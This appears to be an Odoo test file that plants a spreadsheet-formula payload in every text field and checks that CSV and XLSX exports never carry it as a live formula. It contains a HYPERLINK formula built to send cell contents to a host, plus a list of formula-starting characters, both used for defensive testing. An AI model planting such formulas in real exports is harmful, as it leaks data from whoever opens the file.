"""What looks like a formula in every text field: no export hands one to a table."""

import csv
import io
import json

import openpyxl
import pytest
from poison import Poisoner

from odoo.http import Request
from odoo.tests import HttpCase, tagged

TEXT = '=HYPERLINK("http://127.0.0.1/"&A1,"x")'
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r")


@tagged("post_install", "-at_install")
class TestFormulas(HttpCase):
    @pytest.fixture(autouse=True)
    def _figures(self, figures):
        type(self).tell = staticmethod(figures)

    def test_no_export_holds_one(self):
        self.cells = 0
        poisoner = Poisoner(self.env, TEXT)
        rows = [row for row in poisoner.rows() if row.reader and row.fields]
        for row in rows:
            with self.subTest(model=row.model):
                login = f"walk_{row.reader}"
                self.authenticate(login, login)
                for kind, check in (
                    ("csv", self._check_csv),
                    ("xlsx", self._check_xlsx),
                ):
                    check(self._export(kind, row) or self._export(kind, row, ()))
        self.assertGreater(self.cells, 2 * len(rows))
        self.tell(
            "Formulas in exports",
            f"{self.cells} cells exported from {len(rows)} models as CSV and XLSX held "
            "what looks like a formula; none was one.",
            cells=self.cells,
            models=len(rows),
        )

    def _export(self, kind, row, names=None):
        """Return the file, or nothing if not all of it may leave the house."""
        names = ("display_name", *(row.fields if names is None else names))
        wish = {
            "model": row.model,
            "fields": [{"name": n, "label": n, "type": "char"} for n in names],
            "ids": [row.id],
            "domain": [],
            "groupby": [],
            "import_compat": False,
            "context": {},
        }
        form = {"data": json.dumps(wish), "csrf_token": Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", data=form)
        if answer.status_code != 200 and "odoo.exceptions.AccessError" in answer.text:
            return None
        self.assertEqual(answer.status_code, 200, answer.text[:500])
        return answer.content

    def _check_csv(self, content):
        for line in csv.reader(io.StringIO(content.decode())):
            for cell in line:
                self.cells += TEXT in cell
                self.assertFalse(cell.startswith(BEGINNINGS), cell)

    def _check_xlsx(self, content):
        for line in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows():
            for cell in line:
                self.cells += TEXT in str(cell.value)
                self.assertNotEqual(cell.data_type, "f", cell.value)
